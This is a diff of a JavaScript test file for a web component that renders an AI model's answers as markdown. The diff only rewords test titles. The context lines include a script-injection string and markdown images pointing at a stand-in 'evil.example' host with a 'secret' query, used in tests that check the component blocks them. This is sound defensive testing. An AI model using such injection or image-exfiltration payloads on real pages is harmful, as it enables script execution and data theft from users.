@@ -1,11 +1,11 @@
-/** What the element `<mcp-web-ask>` shows: answers, markdown, words and looks, also to screen readers. */
+/** The look of the element `<mcp-web-ask>`: answers, markdown, texts and styles, also for screen readers. */
 
 import { assert, equal } from "./assert.js";
 import { all, announced, answer, box, button, eventually, finished, frame, inEmptyDocuments, input, one, rendered, shown, started, text, write } from "./ask-fixture.js";
 import "./mcp-web-ask.js";
 
 export default inEmptyDocuments({
-  async "an answer that is a call or a value is shown as the page says"() {
+  async "an answer that is a call or a value is shown in the page's format"() {
     const { bridge, mcpWeb, element, ask } = await box({ answer: ({ response }) => response && `Chosen: **${response.arguments.card}**` });
     mcpWeb.addTool({ name: "choose", handler: () => ({}) });
     await bridge.register();
@@ -21,7 +21,7 @@ export default inEmptyDocuments({
     assert(shown(element).includes('"late": 2'), shown(element));
   },
 
-  async "what a model thinks is closed at first, and notes are shown"() {
+  async "thoughts of a model are collapsed at first, and notes are shown"() {
     const { element, ask } = await box();
     const asked = await ask("?");
     asked.progress({ type: "thinking", text: "Hm." }, { type: "note", text: "The model is busy." }, { type: "usage", usage: { models: {}, milliseconds: 1 } });
@@ -57,7 +57,7 @@ export default inEmptyDocuments({
     }
   },
 
-  async "attributes and properties name what is shown, in the words of the page"() {
+  async "attributes and properties set the texts of the element"() {
     const { element } = await box({ strings: { send: "Fragen", placeholder: "Frag etwas", stop: undefined } });
     equal([button(element, "Fragen") !== undefined, input(element).placeholder], [true, "Frag etwas"]);
     write(element, "draft");
@@ -102,7 +102,7 @@ export default inEmptyDocuments({
     equal(getComputedStyle(element).display, "block");
   },
 
-  async "markdown is rendered, and what a model must not do is text or nothing"() {
+  async "markdown is rendered, and forbidden markup is text or nothing"() {
     globalThis.attacked = false;
     const attacks = [
       "<script>attacked = true</script>",
@@ -129,7 +129,7 @@ export default inEmptyDocuments({
     equal(globalThis.attacked, false);
   },
 
-  async "links to other sites open a tab that knows nothing of the page, and only pictures whose data is in the answer are shown"() {
+  async "links to other sites open a separate tab without a referrer, and only pictures with inline data are shown"() {
     const element = await rendered(
       "[other](https://other.example/a) [own](/own) [mail](mailto:a@b.example) ![pie chart](https://evil.example/?secret=1) ![](//evil.example/2) ![own picture](/redirect?to=evil.example) ![dot](data:image/gif;base64,R0lGODlhAQABAAAAACw=) [![in a link](https://evil.example/3)](https://other.example/b)",
     );
